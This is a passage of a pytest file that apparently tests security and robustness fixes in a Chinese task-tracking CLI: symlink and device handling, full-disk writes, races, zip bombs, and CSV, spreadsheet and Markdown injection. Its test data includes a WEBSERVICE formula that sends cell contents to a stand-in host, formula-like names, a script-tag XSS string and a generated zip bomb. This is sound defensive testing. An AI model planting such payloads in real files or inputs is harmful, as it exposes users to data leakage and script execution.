"""Issue 13: what a hostile trial found, one test (or more) per numbered finding.

Each test failed before its fix; the finding's number is in the test's name
or docstring. Every test is bounded in time (time_limit, timeouts on children).
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import stat
import subprocess
import sys
import threading
import time
import zipfile
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cli_helpers import run
from test_robustness import Hang, time_limit
from xatrack.cache import Cache
from xatrack.evaluate import decisive, evaluate, newest
from xatrack.model import Entry, Quarter
from xatrack.logfile import read_log
from xatrack.store import Tracker, append_entries, record_line

REPO = Path(__file__).resolve().parents[1]
Q2 = Quarter(2025, 2)
LOG = "progress/2025-Q2.yaml"
POSIX = os.name == "posix"


def entry_line(item=32, value=None, day="2025-06-20", **more) -> str:
    record = {"id": item}
    if value is not None:
        record["value"] = value
    record.update(more)
    record.setdefault("date", day)
    record.setdefault("by", "区科经局")
    return record_line(record)


def write_log(root: Path, lines: list[str]) -> Path:
    path = root / LOG
    path.parent.mkdir(exist_ok=True)
    path.write_text("".join(lines), encoding="utf-8")
    return path


def one_line_error(code: int, out: str, err: str) -> None:
    assert code == 2, (out, err)
    assert "Traceback" not in out + err
    assert len(err.strip().splitlines()) == 1 and err.startswith("错误:"), err


# --------------------------------------------------------------------------- 1. -o writes to what it names


@pytest.mark.skipif(not POSIX, reason="devices, FIFOs")
def test_1_output_is_written_into_a_device_a_fifo_and_a_symlink_target(tracker, tmp_path, capsys):
    """Before: -o replaced /dev/null, a FIFO or a symlink with a regular file."""
    # Through a link of our own: a build with the bug replaces the link, never /dev/null itself.
    null = tmp_path / "null"
    null.symlink_to(os.devnull)
    code, out, err = run(capsys, "report", "--quarter", "Q2", "--format", "html", "-o", str(null))
    assert code == 0, err
    assert null.is_symlink() and stat.S_ISCHR(os.stat(null).st_mode)

    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    with time_limit(30):
        code, out, err = run(capsys, "report", "--quarter", "Q2", "--format", "md", "-o", str(fifo))
    reader.join(timeout=30)
    assert code == 0, err
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert received and received[0].startswith("# 2025年第二季度".encode())

    target = tmp_path / "elsewhere" / "通报.html"
    target.parent.mkdir()
    link = tracker / "通报.html"
    link.symlink_to(target)
    code, out, err = run(capsys, "report", "--quarter", "Q2", "-o", str(link))
    assert code == 0, err
    assert link.is_symlink() and target.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


@pytest.mark.skipif(not os.path.exists("/proc/self/fd/1"), reason="no /proc/self/fd")
def test_1_output_to_dev_stdout_reaches_the_pipe(tracker, tmp_path):
    """Before: -o /dev/stdout replaced the link (as root) or failed, and nothing reached the pipe.
    (A link of our own, made like /dev/stdout: a build with the bug replaces it, never /dev/stdout.)"""
    stdout = tmp_path / "stdout"
    stdout.symlink_to("/proc/self/fd/1")
    env = dict(os.environ, PYTHONPATH=str(REPO))
    done = subprocess.run([sys.executable, "-m", "xatrack", "report", "--quarter", "Q2", "--format", "md", "-o", str(stdout)],
                          cwd=tracker, env=env, capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr.decode()
    assert done.stdout.decode("utf-8").startswith("# 2025年第二季度")
    assert stdout.is_symlink()


@pytest.mark.parametrize(
    "args",
    [
        ["report", "--quarter", "Q2", "--format", "md", "-o", LOG],
        ["report", "--quarter", "Q2", "--format", "md", "-o", "units.yaml", "--force"],
        ["report", "--quarter", "Q2", "--format", "html", "-o", "bulletins/2025Q2.html"],
        ["report", "--quarter", "Q2", "--format", "md", "-o", "findings/x.md"],
        ["sheet", "--unit", "区科经局", "--quarter", "Q2", "-o", "tasks.yaml"],
        ["sheet", "--unit", "区科经局", "--quarter", "Q2", "-o", "tasks.yaml", "--force"],
    ],
)
def test_1_output_never_overwrites_the_trackers_own_files(tracker, capsys, args):
    """Before: -o progress/2025-Q2.yaml replaced the log, sheet -o tasks.yaml the registry."""
    write_log(tracker, [entry_line(32, 120)])
    for name in ("bulletins", "findings"):
        (tracker / name).mkdir()
        (tracker / name / "x.md").write_text("# 已发布\n", encoding="utf-8")
    before = {p: p.read_bytes() for p in tracker.rglob("*") if p.is_file()}
    code, out, err = run(capsys, *args)
    one_line_error(code, out, err)
    assert "跟踪目录自己的文件" in err
    assert {p: p.read_bytes() for p in tracker.rglob("*") if p.is_file()} == before


def test_1_output_through_a_symlink_into_the_tracker_is_refused(tracker, tmp_path, capsys):
    link = tmp_path / "report.md"
    link.symlink_to(tracker / "tasks.yaml")
    before = (tracker / "tasks.yaml").read_bytes()
    for force in ([], ["--force"]):
        code, out, err = run(capsys, "report", "--quarter", "Q2", "--format", "md", "-o", str(link), *force)
        one_line_error(code, out, err)
        assert (tracker / "tasks.yaml").read_bytes() == before and link.is_symlink()


def test_1_output_keeps_a_file_xatrack_did_not_make_unless_force(tracker, capsys):
    """Before: any existing file named by -o was replaced; an unreadable .xlsx by sheet too."""
    mine = tracker / "说明.md"
    mine.write_text("# 手写的说明\n", encoding="utf-8")
    code, out, err = run(capsys, "report", "--quarter", "Q2", "--format", "md", "-o", str(mine))
    one_line_error(code, out, err)
    assert "--force" in err and mine.read_text(encoding="utf-8") == "# 手写的说明\n"
    code, out, err = run(capsys, "report", "--quarter", "Q2", "--format", "md", "-o", str(mine), "--force")
    assert code == 0 and "由 xatrack 生成" in mine.read_text(encoding="utf-8")
    for fmt, name in (("md", "说明.md"), ("html", "通报.html"), ("xlsx", "通报.xlsx"), ("term", "通报.txt")):
        for _ in range(2):  # the second run replaces what the first made, without --force
            code, out, err = run(capsys, "report", "--quarter", "Q2", "--format", fmt, "-o", name)
            assert code == 0, (fmt, err)

    broken = tracker / "区科经局-2025Q2.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a workbook")
    code, out, err = run(capsys, "sheet", "--unit", "区科经局", "--quarter", "Q2")
    one_line_error(code, out, err)
    assert broken.read_bytes() == b"PK\x03\x04 not really a workbook"
    code, out, err = run(capsys, "sheet", "--unit", "区科经局", "--quarter", "Q2", "--force")
    assert code == 0, err
    openpyxl.load_workbook(broken)


# --------------------------------------------------------------------------- 2. symlinks out of the tracker


def test_2_a_log_or_lock_leading_out_of_the_tracker_is_refused(tracker, tmp_path, capsys):
    """Before: update appended to the outside file (and said 已记录); a dangling link created it."""
    outside = tmp_path / "elsewhere.yaml"
    outside.write_text("# 别人的文件\n", encoding="utf-8")
    (tracker / "progress").mkdir()
    (tracker / LOG).symlink_to(outside)
    code, out, err = run(capsys, "update", "32", "--done", "10")
    one_line_error(code, out, err)
    assert "跟踪目录之外" in err and outside.read_text(encoding="utf-8") == "# 别人的文件\n"
    code, out, err = run(capsys, "list", "--quarter", "Q2")
    assert code == 2 and "跟踪目录之外" in err
    code, out, err = run(capsys, "check")
    assert code == 1 and "跟踪目录之外" in out + err

    (tracker / LOG).unlink()
    dangling = tmp_path / "never" / "made.yaml"
    (tracker / LOG).symlink_to(dangling)
    code, out, err = run(capsys, "update", "32", "--done", "10")
    one_line_error(code, out, err)
    assert not dangling.exists() and not dangling.parent.exists()

    (tracker / LOG).unlink()
    lock_target = tmp_path / "lock-made-outside"
    (tracker / (LOG + ".lock")).symlink_to(lock_target)
    code, out, err = run(capsys, "update", "32", "--done", "10")
    one_line_error(code, out, err)
    assert not lock_target.exists() and not (tracker / LOG).exists()


def test_2_symlinks_inside_the_tracker_are_fine(tracker, capsys):
    (tracker / "data").mkdir()
    (tracker / "progress").symlink_to(tracker / "data")
    code, out, err = run(capsys, "update", "32", "--done", "10")
    assert code == 0, err
    assert (tracker / "data" / "2025-Q2.yaml").is_file()


# --------------------------------------------------------------------------- 3. full disk


def _failing_write(monkeypatch, after_bytes: int, error=errno.ENOSPC):
    """os.write writes ``after_bytes`` bytes of a log append, then fails."""
    real = os.write
    state = {"left": after_bytes}

    def write(fd, data):
        if state["left"] <= 0:
            raise OSError(error, os.strerror(error))
        part = bytes(data[: state["left"]])
        state["left"] -= len(part)
        return real(fd, part)

    monkeypatch.setattr(os, "write", write)
    return real


@pytest.mark.parametrize("after", [0, 1, 40, 300])
@pytest.mark.parametrize("error", [errno.ENOSPC, errno.EIO])
def test_3_a_failed_append_leaves_the_log_byte_identical(tracker, monkeypatch, after, error):
    """Before: the buffered write stayed in the file (the log grew 268 -> 4096 bytes)."""
    path = write_log(tracker, ["# 二季度\n", entry_line(32, 100)])
    before = path.read_bytes()
    records = [json.loads(entry_line(n, 1)[2:]) for n in (1, 2, 3, 4, 5, 6)]
    real = _failing_write(monkeypatch, after, error)
    with pytest.raises(Exception) as caught:
        append_entries(path, records, root=tracker)
    monkeypatch.setattr(os, "write", real)
    assert "无法写入" in str(caught.value)
    assert path.read_bytes() == before


@pytest.mark.parametrize("error", [errno.ENOSPC, errno.EIO])
def test_3_a_failed_fsync_leaves_the_log_byte_identical_and_no_new_log(tracker, monkeypatch, error, capsys):
    path = write_log(tracker, [entry_line(32, 100)])
    before = path.read_bytes()

    def fsync(fd):
        raise OSError(error, os.strerror(error))

    real = os.fsync
    monkeypatch.setattr(os, "fsync", fsync)
    code, out, err = run(capsys, "update", "32", "--done", "101")
    assert code == 2 and "无法写入" in err
    code, out, err = run(capsys, "update", "32", "--done", "5", "--quarter", "Q3")
    assert code == 2
    monkeypatch.setattr(os, "fsync", real)
    assert path.read_bytes() == before
    assert not (tracker / "progress" / "2025-Q3.yaml").exists()


def test_3_a_multi_row_ingest_on_a_full_disk_records_nothing(tracker, monkeypatch, capsys):
    """Before: 2 of 6 rows stayed in the log and check passed; re-ingesting recorded the other 4."""
    rows = _filled_sheet(tracker, capsys, "区科经局", "filled.xlsx", "说明")
    assert rows >= 6
    path = write_log(tracker, [entry_line(28, note="已有")])
    before = path.read_bytes()
    real = _failing_write(monkeypatch, 500)
    code, out, err = run(capsys, "ingest", "filled.xlsx")
    monkeypatch.setattr(os, "write", real)
    assert code == 2 and "无法写入" in err
    assert path.read_bytes() == before
    code, out, err = run(capsys, "ingest", "filled.xlsx")
    assert code == 0, err
    assert f"已记录 {rows} 行" in out


# --------------------------------------------------------------------------- 4. parallel ingests

INGESTER = r"""
import sys, os, time
from xatrack.cli import main
ready, go, files = sys.argv[1], sys.argv[2], sys.argv[3:]
open(ready, "w").close()
deadline = time.monotonic() + 60
while not os.path.exists(go) and time.monotonic() < deadline:
    time.sleep(0.002)
try:
    main(["ingest", *files])
except SystemExit as exit_:
    sys.exit(exit_.code or 0)
"""


def _filled_sheet(tracker, capsys, unit: str, name: str, note: str) -> int:
    """A sheet of ``unit`` with every row's status and note filled; the number of rows."""
    from test_sheet import fill, table

    code, out, err = run(capsys, "sheet", "--unit", unit, "--quarter", "Q2", "-o", f"blank-{name}")
    assert code == 0, err
    wb, ws, columns, rows = table(tracker / f"blank-{name}")
    values = {}
    for row in rows:
        metric = row[columns["指标"] - 1].value
        key = (str(row[columns["编号"] - 1].value), None if str(metric).startswith("(无量化指标") else metric)
        values[key] = {"状态": "推进中", "进展说明": f"{note}{key[0]}"}
    fill(tracker / f"blank-{name}", tracker / name, values)
    return len(values)


def _run_together(tracker, tmp_path, argvs: list[list[str]]) -> list[subprocess.CompletedProcess]:
    env = dict(os.environ, PYTHONPATH=str(REPO) + os.pathsep + os.environ.get("PYTHONPATH", ""))
    signals = tmp_path / "signals"
    signals.mkdir(parents=True, exist_ok=True)
    go = signals / "go"
    procs = [
        subprocess.Popen([sys.executable, "-c", INGESTER, str(signals / f"ready-{k}"), str(go), *argv],
                         cwd=tracker, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for k, argv in enumerate(argvs)
    ]
    try:
        deadline = time.monotonic() + 60
        while len(list(signals.glob("ready-*"))) < len(argvs) and time.monotonic() < deadline:
            time.sleep(0.01)
        go.touch()
        return [(p, *p.communicate(timeout=120)) for p in procs]
    finally:
        for p in procs:
            if p.poll() is None:
                p.kill()
                p.wait(timeout=10)


def test_4_an_ingest_finishing_between_check_and_append_is_not_recorded_twice(tracker, monkeypatch, capsys):
    """Before: the "already recorded" check ran before the lock: an ingest of the same
    sheet that finished in between (a parallel process) had its rows recorded again."""
    import xatrack.sheet

    rows = _filled_sheet(tracker, capsys, "区科经局", "s.xlsx", "说明")
    real = xatrack.sheet.check_filled
    state = {"inner": False}

    def check_then_let_another_ingest_finish(*args, **kwargs):
        result = real(*args, **kwargs)
        if not state["inner"]:
            state["inner"] = True
            code, out, err = run(capsys, "ingest", "s.xlsx")  # the "other process"
            assert code == 0, err
        return result

    monkeypatch.setattr(xatrack.sheet, "check_filled", check_then_let_another_ingest_finish)
    code, out, err = run(capsys, "ingest", "s.xlsx")
    assert code == 0, err
    assert "没有新的内容需要记录" in out and f"{rows} 行与已有记录相同" in out
    entries, problems = read_log((tracker / LOG).read_text(encoding="utf-8"), Q2, LOG)
    assert problems == [] and len(entries) == rows


def test_4_parallel_ingests_of_one_sheet_record_each_row_once(tracker, tmp_path, capsys):
    """Four processes ingest one sheet at once, three times: each row once."""
    rows = _filled_sheet(tracker, capsys, "区科经局", "s.xlsx", "说明")
    for trial in range(3):
        results = _run_together(tracker, tmp_path / f"t{trial}", [["s.xlsx"]] * 4)
        for proc, out, err in results:
            assert proc.returncode == 0, err
        entries, problems = read_log((tracker / LOG).read_text(encoding="utf-8"), Q2, LOG)
        assert problems == [] and len(entries) == rows, (trial, len(entries), rows)


# --------------------------------------------------------------------------- 5. a stray line


def test_5_a_stray_line_or_conflict_markers_cost_those_lines_only(tracker, capsys):
    """Before: one `hello` line or git conflict markers turned 20 reported items into 未报送."""
    ids = [str(n) for n in range(1, 21)]
    # Reported by the office: a responsible unit's note would only be a contribution (issue 11).
    lines = [entry_line(int(i), status="推进中", note=f"第{i}项", by="督查室") for i in ids]
    damaged = lines[:7] + ["hello\n"] + lines[7:12] + ["<<<<<<< HEAD\n", "=======\n", ">>>>>>> abc123\n"] + lines[12:]
    write_log(tracker, lines)
    code, out, err = run(capsys, "list", "--quarter", "Q2", "--format", "json")
    clean = {row["id"]: (row["status"], row["note"]) for row in json.loads(out)}
    write_log(tracker, damaged)
    entries, problems = read_log((tracker / LOG).read_text(encoding="utf-8"), Q2, LOG)
    assert sorted(e.item for e in entries) == sorted(ids)
    assert [(p.line, "合并冲突标记" in p.message) for p in problems] == [(8, False), (14, True), (15, True), (16, True)]
    code, out, err = run(capsys, "list", "--quarter", "Q2", "--format", "json")
    assert {row["id"]: (row["status"], row["note"]) for row in json.loads(out)} == clean
    assert all(clean[i][1] == f"第{i}项" for i in ids)
    assert "4 处问题" in err
    code, out, err = run(capsys, "check")
    assert code == 1 and f"{LOG}:14" in out + err and "合并冲突标记" in out + err


@pytest.mark.parametrize("name", ["tasks.yaml", "units.yaml"])
def test_5_conflict_markers_in_registry_or_directory_are_named(tracker, capsys, name):
    path = tracker / name
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    at = len(lines) // 2
    while lines[at].startswith(" ") is False:
        at += 1
    lines[at:at] = ["<<<<<<< HEAD\n", lines[at], "=======\n", ">>>>>>> 1a2b3c4 (其他单位)\n"]
    path.write_text("".join(lines), encoding="utf-8")
    code, out, err = run(capsys, "check")
    assert code != 0 and f"{name}:{at + 1}" in out + err and "合并冲突标记" in out + err, out + err
    code, out, err = run(capsys, "list")
    assert code == 2 and "合并冲突标记" in err and "Traceback" not in err


# --------------------------------------------------------------------------- 6. entries for unknown items


def test_6_reading_commands_warn_once_about_entries_for_unknown_items(tracker, capsys):
    """Before: entries of a deleted task or a renamed metric were ignored without a word outside check."""
    write_log(tracker, [entry_line(999, status="推进中"), entry_line(32, 5, metric="旧指标名"), entry_line(32, 50)])
    for args in (["list", "--quarter", "Q2"], ["overdue", "--quarter", "Q2"], ["report", "--quarter", "Q2"],
                 ["show", "32"], ["leaders", "--quarter", "Q2"]):
        code, out, err = run(capsys, *args)
        assert code == 0, err
        assert err.count("任务清单中不存在") == 1, (args, err)
        assert "2 条记录" in err, (args, err)
    write_log(tracker, [entry_line(32, 50)])
    code, out, err = run(capsys, "list", "--quarter", "Q2")
    assert "不存在" not in err


# --------------------------------------------------------------------------- 7. newest by content


def test_7_merge_and_rebase_pick_the_same_newest_entry(tracker, capsys):
    """Before: A reports 3, B 5 two seconds later: merge (A's line last) -> 3 wins, rebase -> 5 wins."""
    a = entry_line(32, 3, by="甲", at="2025-06-20T10:00:00+08:00")
    b = entry_line(32, 5, by="乙", at="2025-06-20T10:00:02+08:00")
    for order in ([a, b], [b, a]):
        write_log(tracker, order)
        code, out, err = run(capsys, "list", "--quarter", "Q2", "--format", "json")
        row = next(r for r in json.loads(out) if r["id"] == "32")
        assert row["metrics"][0]["value"] == 5, order


def _entry(value, at=None, seq=0, note=None, by="甲"):
    return Entry("32", Q2, date(2025, 6, 20), "新建5G基站", value, None, note, by, at, LOG, seq, seq)


def test_7_newest_is_by_time_to_the_microsecond_then_content():
    t = datetime(2025, 6, 20, 10, 0, 0, tzinfo=timezone(timedelta(hours=8)))
    early, late = _entry(3, t, 9), _entry(5, t + timedelta(microseconds=1), 1)
    assert newest([early, late]) is late and newest([late, early]) is late
    same_a, same_b = _entry(3, t, 1), _entry(5, t, 2)
    assert newest([same_a, same_b]) == newest([same_b, same_a])
    utc = _entry(4, t.astimezone(timezone.utc) + timedelta(seconds=1), 0)
    assert newest([utc, early]) is utc and newest([early, utc]) is utc
    # hand-written entries without `at` keep their order in the file
    assert newest([_entry(1, None, 1), _entry(2, None, 2)]).value == 2


@settings(max_examples=60, deadline=None)
@given(st.permutations(list(range(6))), st.lists(st.integers(0, 3), min_size=6, max_size=6))
def test_7_evaluation_does_not_depend_on_the_order_of_entries(order, seconds):
    from xatrack.registry import parse_registry

    plan, _ = parse_registry((REPO / "tasks.yaml").read_text(encoding="utf-8"))
    base = datetime(2025, 6, 20, 10, 0, 0, tzinfo=timezone.utc)
    entries = [_entry(v * 10, base + timedelta(seconds=s), seq=i, by=f"单位{v % 2}") for i, (v, s) in enumerate(zip(range(6), seconds))]
    shuffled = [entries[i]._replace(seq=k, line=k) for k, i in enumerate(order)]
    one = [s for s in evaluate(plan, entries, Q2) if s.item.id == "32"][0]
    two = [s for s in evaluate(plan, shuffled, Q2) if s.item.id == "32"][0]
    assert one.metrics[0].value == two.metrics[0].value and one.state == two.state


# --------------------------------------------------------------------------- 8. check on what xatrack wrote


def test_8_check_is_clean_after_quick_updates_and_ingests(tracker, capsys):
    """Before: six quick `update 32 --done 12N --by 区科经局` gave 4 同一时间…不同内容 errors (exit 1)."""
    for n in range(1, 7):
        code, out, err = run(capsys, "update", "32", "--done", f"12{n}", "--by", "区科经局")
        assert code == 0, err
    _filled_sheet(tracker, capsys, "区科经局", "a.xlsx", "甲")
    _filled_sheet(tracker, capsys, "区科经局", "b.xlsx", "乙")
    for name in ("a.xlsx", "b.xlsx", "a.xlsx"):
        code, out, err = run(capsys, "ingest", name)
        assert code == 0, err
    code, out, err = run(capsys, "check")
    assert code == 0, out + err
    ats = [json.loads(line[2:])["at"] for line in (tracker / LOG).read_text(encoding="utf-8").splitlines() if line.startswith("- ")]
    assert all("." in at for at in ats[:6])  # sub-second


def test_8_old_entries_without_sub_seconds_still_parse():
    text = entry_line(32, 1, at="2025-06-20T10:00:00+08:00") + entry_line(32, 2, at="2025-06-20T10:00:00.5+08:00")
    entries, problems = read_log(text, Q2, LOG)
    assert problems == [] and [e.at.microsecond for e in entries] == [0, 500000]


# --------------------------------------------------------------------------- 11-13. crashes


@pytest.mark.skipif(not POSIX, reason="bytes in argv and environment")
def test_11_bytes_that_are_not_utf8_in_a_flag_or_the_user_name(tracker, tmp_path):
    """Before: UnicodeEncodeError tracebacks."""
    env = dict(os.environ, PYTHONPATH=str(REPO), XATRACK_TODAY="2025-06-20")
    command = [sys.executable, "-m", "xatrack"]
    done = subprocess.run([*command, "update", "28", "--note", b"abc\xff"], cwd=tracker, env=env, capture_output=True, timeout=60)
    err = done.stderr.decode()
    assert done.returncode == 2 and "--note" in err and "UTF-8" in err and "Traceback" not in err
    env_bad = {**{k.encode(): v.encode() for k, v in env.items()}, b"XATRACK_USER": b"\xc0"}
    done = subprocess.run([*command, "update", "28", "--note", "x"], cwd=tracker, env=env_bad, capture_output=True, timeout=60)
    err = done.stderr.decode()
    assert done.returncode == 2 and "XATRACK_USER" in err and "Traceback" not in err
    assert not (tracker / LOG).exists()


def test_11_a_lone_surrogate_in_a_log_costs_its_line(tracker, capsys):
    write_log(tracker, ['- {"id": 28, "note": "\\ud800", "date": "2025-06-20"}\n', entry_line(32, 50)])
    for args in (["show", "28"], ["list", "--format", "json"], ["report", "--format", "md"]):
        code, out, err = run(capsys, *args)
        assert code == 0 and "Traceback" not in err, (args, err)
        out.encode("utf-8")
    code, out, err = run(capsys, "check")
    assert code == 1 and f"{LOG}:1" in out + err


def test_12_a_deeply_nested_line_does_not_crash_update(tracker, capsys):
    """Before: update printed 已记录 and then hit RecursionError (exit 1)."""
    deep = '- {"id": 32, "note": ' + "[" * 100_000 + "]" * 100_000 + ', "date": "2025-06-20"}\n'
    write_log(tracker, [deep])
    code, out, err = run(capsys, "update", "32", "--done", "10")
    assert code == 0 and "已记录" in out and "Traceback" not in err, err
    code, out, err = run(capsys, "show", "32")
    assert code == 0, err
    assert "进度 10/168个 (6%)" in out and "168/10" in out  # the figure recorded after the deep line counts


def test_13_a_number_of_5000_digits_in_tasks_yaml(tracker, capsys):
    """Before: ValueError traceback in every command, check included."""
    path = tracker / "tasks.yaml"
    text = path.read_text(encoding="utf-8")
    line = text[: text.index("target: 336,")].count("\n") + 1
    path.write_text(text.replace("target: 336,", "target: " + "9" * 5000 + ",", 1), encoding="utf-8")
    code, out, err = run(capsys, "check")
    assert code == 1 and f"tasks.yaml:{line}" in out + err and "位数过多" in out + err
    code, out, err = run(capsys, "list")
    one_line_error(code, out, err)


# --------------------------------------------------------------------------- 14. what ingest reads


def _bounded_ingest(tracker: Path, name: str) -> tuple[int, str, str]:
    """ingest in a child process limited to 1 GB of memory and 60 s: a build that
    reads a device or unpacks a bomb fails this test without harming the machine."""
    import resource

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    env = dict(os.environ, PYTHONPATH=str(REPO))
    try:
        done = subprocess.run([sys.executable, "-m", "xatrack", "ingest", name], cwd=tracker, env=env,
                              capture_output=True, timeout=60, preexec_fn=limit)
    except subprocess.TimeoutExpired:
        raise Hang(f"ingest {name} still running after 60 s") from None
    return done.returncode, done.stdout.decode("utf-8", "replace"), done.stderr.decode("utf-8", "replace")


@pytest.mark.skipif(not POSIX, reason="devices, FIFOs, resource limits")
def test_14_ingest_refuses_devices_and_fifos(tracker, tmp_path):
    """Before: /dev/zero read until MemoryError; a FIFO named .xlsx hung."""
    link = tracker / "zero.xlsx"
    link.symlink_to("/dev/zero")
    fifo = tracker / "pipe.xlsx"
    os.mkfifo(fifo)
    for name in ("/dev/zero", str(link), str(fifo)):
        code, out, err = _bounded_ingest(tracker, name)
        one_line_error(code, out, err)
        assert "不是普通文件" in err


@pytest.mark.skipif(not POSIX, reason="resource limits")
def test_14_a_zip_bomb_is_refused_before_it_is_unpacked(tracker):
    """Before: a 1.5 MB zip bomb ran 111 s to 3.8 GB."""
    bomb = tracker / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(120):
                member.write(chunk)
    assert bomb.stat().st_size < 1024 * 1024
    code, out, err = _bounded_ingest(tracker, str(bomb))
    one_line_error(code, out, err)
    assert "上限" in err


def test_14_a_sheet_with_too_many_rows_is_refused(tracker, capsys, monkeypatch):
    from xatrack.io import sheet_xlsx

    code, out, err = run(capsys, "sheet", "--unit", "区科经局", "--quarter", "Q2", "-o", "s.xlsx")
    assert code == 0, err
    monkeypatch.setattr(sheet_xlsx, "MAX_ROWS", 8)
    code, out, err = run(capsys, "ingest", "s.xlsx")
    one_line_error(code, out, err)
    assert "上限 8 行" in err


# --------------------------------------------------------------------------- 15. Windows


def test_15_writing_works_without_os_fchmod(tracker, tmp_path, monkeypatch, capsys):
    """Before: write_atomic called os.fchmod, which Windows lacks before Python 3.13."""
    monkeypatch.delattr(os, "fchmod", raising=False)
    code, out, err = run(capsys, "init", str(tmp_path / "新目录"))
    assert code == 0, err
    code, out, err = run(capsys, "import", str(REPO / "xatrack" / "data" / "2025-xianan.txt"), "-o", str(tmp_path / "t.yaml"))
    assert code == 0, err
    code, out, err = run(capsys, "report", "--quarter", "Q2", "--format", "html", "-o", "通报.html")
    assert code == 0, err
    code, out, err = run(capsys, "sheet", "--unit", "区科经局", "--quarter", "Q2")
    assert code == 0, err
    if POSIX:
        assert stat.S_IMODE(os.stat("通报.html").st_mode) & 0o044  # readable by others as a new file is


def test_15_locking_works_without_fcntl(tracker, monkeypatch, capsys):
    monkeypatch.setitem(sys.modules, "fcntl", None)  # `import fcntl` raises ImportError, as on Windows
    for n in range(3):
        code, out, err = run(capsys, "update", "32", "--done", str(10 + n))
        assert code == 0, err
    entries, problems = read_log((tracker / LOG).read_text(encoding="utf-8"), Q2, LOG)
    assert [e.value for e in entries] == [10, 11, 12] and problems == []


# --------------------------------------------------------------------------- 10. injection

FORMULA = '=WEBSERVICE("http://example.invalid/?"&C2)'


def _hostile_plan(tracker):
    """Item 32 led by a unit named like a formula, with a formula-like text."""
    path = tracker / "tasks.yaml"
    text = path.read_text(encoding="utf-8")
    text = text.replace("    text: 新建5G基站336个。\n    leaders: [洪声耀]\n    lead: [区科经局]",
                        "    text: '=1+2 新建5G基站336个。'\n    leaders: [洪声耀]\n    lead: ['@SUM(1)']", 1)
    assert "'@SUM(1)'" in text
    path.write_text(text, encoding="utf-8")


def _cells(path: Path) -> list:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_10_no_cell_written_from_data_is_a_formula(tracker, capsys):
    """Before: notes and names starting with = + - @ became live formulas in the xlsx bulletin and sheet."""
    _hostile_plan(tracker)
    code, out, err = run(capsys, "update", "32", "--done", "5", "--note", FORMULA)
    assert code == 0, err
    code, out, err = run(capsys, "update", "28", "--status", "推进中", "--note", "-2+3 完成")
    assert code == 0, err
    code, out, err = run(capsys, "report", "--quarter", "Q2", "-o", "通报.xlsx")
    assert code == 0, err
    cells = _cells(tracker / "通报.xlsx")
    assert all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert any(isinstance(v, str) and FORMULA in v for v in values)
    assert any(isinstance(v, str) and v.startswith("=1+2") for v in values)
    code, out, err = run(capsys, "sheet", "--unit", "@SUM(1)", "--quarter", "Q2", "-o", "s.xlsx")
    assert code == 0, err
    cells = _cells(tracker / "s.xlsx")
    assert all(c.data_type != "f" for c in cells)
    assert any(isinstance(c.value, str) and c.value.startswith("=1+2") for c in cells)


def test_10_csv_fields_that_would_be_formulas_are_neutralised(tracker, capsys, monkeypatch):
    """Before: units --format csv and overdue --format csv passed =HYPERLINK(…) unchanged."""
    import csv
    import io

    monkeypatch.setenv("XATRACK_TODAY", "2025-07-15")  # after the Q2 deadline: overdue lists what nobody reported

    _hostile_plan(tracker)
    for args in (["units", "--quarter", "Q2"], ["overdue", "--quarter", "Q2"], ["list", "--quarter", "Q2"]):
        code, out, err = run(capsys, *args, "--format", "csv")
        assert code == 0, err
        fields = [f for row in csv.reader(io.StringIO(out)) for f in row]
        assert not [f for f in fields if f[:1] in ("=", "+", "@") or (f[:1] == "-" and not f[1:2].isdigit())], args
        assert any(f.startswith("'@SUM(1)") or f.startswith("'=1+2") for f in fields), args


def test_10_csv_field_rule():
    from xatrack.views.safe_cells import csv_field

    assert csv_field("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert csv_field("@SUM(1)") == "'@SUM(1)" and csv_field("+1+2") == "'+1+2" and csv_field("\t=1") == "'\t=1"
    assert csv_field("-3.5") == "-3.5" and csv_field("+7%") == "+7%" and csv_field(-3) == -3
    assert csv_field("区科经局") == "区科经局"


def test_10_markdown_escapes_html(tracker, capsys):
    """Before: report --format md passed <script> through raw."""
    code, out, err = run(capsys, "update", "28", "--status", "受阻", "--note", "<script>alert(1)</script> & 其他")
    assert code == 0, err
    code, out, err = run(capsys, "report", "--quarter", "Q2", "--format", "md")
    assert code == 0, err
    assert "<script>" not in out
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; 其他" in out
    code, out, err = run(capsys, "report", "--quarter", "Q2", "--format", "md", "--search", "<b>")
    assert code == 0, err
    assert "<b>" not in out and "&lt;b&gt;" in out


# --------------------------------------------------------------------------- 8 writers x 200 mixed operations

MIXED = r"""
import os, sys, time
import typer.main
_built = {}
_get = typer.main.get_command
def _key(app):  # cli._command_for builds a copy of the app naming one command: key by what it holds
    return tuple(c.name for c in app.registered_commands) + tuple(g.name for g in app.registered_groups)
typer.main.get_command = lambda app: _built.get(_key(app)) or _built.setdefault(_key(app), _get(app))
from xatrack.cli import main

worker, count, ready, go, sheets = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5].split(";")
keys = [k.split("|") for k in sys.argv[6].split(";")]
sys.stdout = open(os.devnull, "w")
sys.stderr = open(os.devnull, "w")
open(ready, "w").close()
deadline = time.monotonic() + 60
while not os.path.exists(go) and time.monotonic() < deadline:
    time.sleep(0.005)
done = []
for i in range(count):
    if i % 10 == 3:
        args = ["ingest", sheets[(i // 10 + worker) % len(sheets)]]
    else:
